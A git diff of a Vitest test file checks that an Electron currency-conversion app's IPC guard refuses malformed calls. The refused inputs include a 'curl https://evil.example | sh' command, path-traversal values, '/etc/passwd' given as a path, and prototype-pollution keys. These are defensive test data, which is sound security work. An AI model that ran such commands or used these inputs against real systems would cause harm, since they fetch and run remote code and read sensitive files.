@@ -1,9 +1,12 @@
 import type { IpcMainInvokeEvent } from 'electron';
 import { describe, expect, it, vi } from 'vitest';
+import { NOTHING_SHOWN } from '#core/app/shown.ts';
 import { ok } from '#core/base/result.ts';
 import { isBounded, isFromOwnPage } from '#ipc/guard.ts';
 import { callChannel, type CallName } from '#ipc/names.ts';
 import { joined } from '../support/joined-ipc.ts';
+
+const CONVERSION = { amount: '1', from: 'USD', to: 'NGN' };
 
 describe('a call is refused with an error, and reaches no handler', () => {
   it('from a sender that is not trusted', async () => {
@@ -29,15 +32,23 @@ describe('a call is refused with an error, and reaches no handler', () => {
     ['choose', { alerts: { rules: [] } }],
     ['choose', { quotes: { turned: [] } }],
     ['choose', { versions: { checkedAtMs: 0 } }],
-    ['convert', { amount: '1', from: 'USD' }],
-    ['convert', { amount: '1', from: 'USD', to: 'NGN', more: 1 }],
-    ['convert', { amount: 'x'.repeat(201), from: 'USD', to: 'NGN' }],
+    ['show', { ...NOTHING_SHOWN, convert: undefined }],
+    ['show', { ...NOTHING_SHOWN, history: null }],
+    ['show', { ...NOTHING_SHOWN, convert: { amount: '1', from: 'USD' } }],
+    ['show', { ...NOTHING_SHOWN, convert: { ...CONVERSION, more: 1 } }],
+    ['show', { ...NOTHING_SHOWN, convert: { ...CONVERSION, amount: 'x'.repeat(201) } }],
+    ['show', { ...NOTHING_SHOWN, alerts: { subject: { kind: 'path' } } }],
+    ['copy', { kind: 'conversion', market: 'black', written: 'exact', question: CONVERSION }],
+    ['copy', { kind: 'conversion', market: null, written: 'html', question: CONVERSION }],
     ['copy', '1'.repeat(601)],
     ['copy', 'curl https://evil.example | sh'],
     ['copy', '100 USD'],
     ['copy', ''],
-    ['trends', { market: 'mid', codes: Array.from({ length: 201 }, () => 'NGN') }],
-    ['pair', { base: 'USD', quote: '../x' }],
+    [
+      'show',
+      { ...NOTHING_SHOWN, rates: { codes: Array.from({ length: 201 }, () => 'NGN'), open: null } },
+    ],
+    ['show', { ...NOTHING_SHOWN, rates: { codes: [], open: '../x' } }],
     ['choose', { shown: '../x' }],
     ['choose', { groups: [{ id: 'own-1', name: 'x'.repeat(25), codes: [] }] }],
     ['choose', { groups: Array.from({ length: 13 }, () => ({ id: 'a', name: 'a', codes: [] })) }],
@@ -61,9 +72,14 @@ describe('a call is refused with an error, and reaches no handler', () => {
     ['exportHistory', { format: 'csv', pair: { base: 'USD', quote: '../x', market: 'mid' } }],
     ['exportHistory', { format: 'csv', pair: null, path: '/etc/passwd' }],
     ['backUp', '/etc/passwd'],
-    ['platforms', { ticker: 'usdt/ngn', amount: '1', unit: 'money' }],
-    ['deals', { ticker: 'USDTNGN', way: 'have-it-all', amount: '1', isWithdrawn: false }],
-    ['openPlatforms', '../x'],
+    ['show', { ...NOTHING_SHOWN, platforms: { ticker: 'usdt/ngn', amount: '1', unit: 'money' } }],
+    [
+      'show',
+      {
+        ...NOTHING_SHOWN,
+        deals: { ticker: 'USDTNGN', way: 'have-it-all', amount: '1', isWithdrawn: false },
+      },
+    ],
     ['choosePlatform', { ticker: 'USDTNGN', code: 'a', fees: { buyPercent: '101' } }],
     ['choosePlatform', { ticker: 'USDTNGN', code: 'a', fees: { buyPercent: '-1' } }],
     ['choosePlatform', { ticker: 'USDTNGN', code: 'x'.repeat(65) }],
@@ -121,13 +137,13 @@ describe('invalid arguments are refused before any handler runs', () => {
     ['an error', new Error('x')],
   ])('%s', async (_what, args) => {
     expect(isBounded(args)).toBe(false);
-    const convert = vi.fn(() => ok(null));
-    const { invoke } = joined({ handlers: { convert } });
-    expect(await invoke(callChannel('convert'), args)).toMatchObject({
+    const show = vi.fn(() => ok(null));
+    const { invoke } = joined({ handlers: { show } });
+    expect(await invoke(callChannel('show'), args)).toMatchObject({
       ok: false,
       error: { code: 'refused-call' },
     });
-    expect(convert).not.toHaveBeenCalled();
+    expect(show).not.toHaveBeenCalled();
   });
 
   it('and more than one', async () => {
@@ -139,11 +155,11 @@ describe('invalid arguments are refused before any handler runs', () => {
 
   it.each(['__proto__', 'constructor', 'prototype'])('%s changes nothing', async (name) => {
     const args = JSON.parse(
-      `{"amount":"1","from":"USD","to":"NGN","${name}":{"polluted":true}}`,
+      `{"amount":"1","from":"USD","to":"NGN","drives":"give","${name}":{"polluted":true}}`,
     ) as unknown;
-    const convert = vi.fn((given: object) => ok(given));
-    const { invoke } = joined({ handlers: { convert } });
-    const answer = await invoke(callChannel('convert'), args);
+    const rememberConversion = vi.fn((given: object) => ok(given));
+    const { invoke } = joined({ handlers: { rememberConversion } });
+    const answer = await invoke(callChannel('rememberConversion'), args);
     expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
     expect(JSON.stringify(answer)).not.toContain('polluted');
   });
